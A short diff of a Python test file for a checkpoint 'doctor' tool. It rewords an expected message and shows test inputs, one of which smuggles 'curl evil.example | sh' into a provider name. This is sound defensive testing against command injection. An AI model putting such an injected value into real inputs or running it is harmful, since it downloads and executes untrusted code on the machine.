@@ -146,7 +146,7 @@ def test_names_of_a_stranger_stay_one_word_and_one_line(checkpoint: Any, here: A
     output = doctor(str(checkpoint(nn_module=record))).output
     assert "\x1b" not in output
     assert "pip install" not in output
-    assert "ask the author of the file which package to install: that names none" in output
+    assert "ask the author of the file which package to install; the file does not say" in output
 
 
 @pytest.mark.parametrize("provider", ["x; curl evil.example | sh #", "; ", "a; b"])
